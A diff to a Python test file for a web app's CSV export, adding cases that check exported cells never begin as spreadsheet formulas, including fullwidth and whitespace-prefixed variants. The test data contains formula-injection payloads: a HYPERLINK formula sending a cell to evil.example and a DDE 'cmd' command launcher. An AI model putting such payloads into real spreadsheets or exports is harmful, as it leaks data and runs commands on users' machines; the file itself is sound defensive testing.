@@ -370,6 +370,14 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?"&C2,"x")'
         ("+SUM(A1:A9)", "-2+3"),
         ("@SUM(A1:A9)", "\t=cmd|' /C calc'!A0"),
         ("-topic", "\r=1+1"),
+        # Issue 20: a formula after blanks, or in its fullwidth or separator forms, still runs.
+        ("\n=1+1", " =1+1"),
+        ("\u3000=1+1", "\xa0 +SUM(A1:A9)"),
+        ("\uff1d1+1", "\uff0bSUM(A1:A9)"),
+        ("\uff0d2+3", "\uff20SUM(A1:A9)"),
+        ("|cmd", ";=1+1"),
+        ("\uff5ccmd", "\uff1b=1+1"),
+        ("\n\t @SUM(A1:A9)", "\r\n-2+3"),
     ],
 )
 def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: str, text: str) -> None:
@@ -395,7 +403,21 @@ def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: st
     assert (cells["topic"], cells["text"]) == ("'" + topic, "'" + text)
     assert cells["feedback"] == "-1" and cells["status"] == "error"
     for cell in row:
-        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-1"
+        assert not cell.lstrip().startswith(FORMULA_START) or cell == "-1"
+        assert not cell.startswith(("\t", "\r", "\n"))
+
+
+#: Written out here, not read from quotes.admin: OWASP's characters and their fullwidth forms.
+FORMULA_START = ("=", "+", "-", "@", "|", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff1b")
+
+
+@pytest.mark.parametrize("topic", ["rain", " rain", "a=b", "e-mail", "", "  ", "2+2", "\u3000rain"])
+def test_csv_export_leaves_plain_text_as_it_is(admin_client: Client, db: None, topic: str) -> None:
+    log(Persona.objects.get(slug="alan-watts"), timezone.now(), topic=topic)
+
+    [header, row] = _csv(admin_client.get(EXPORT))
+
+    assert dict(zip(header, row, strict=True))["topic"] == topic
 
 
 def test_csv_export_with_a_bad_filter_goes_back_to_the_changelist(admin_client: Client, db: None) -> None:
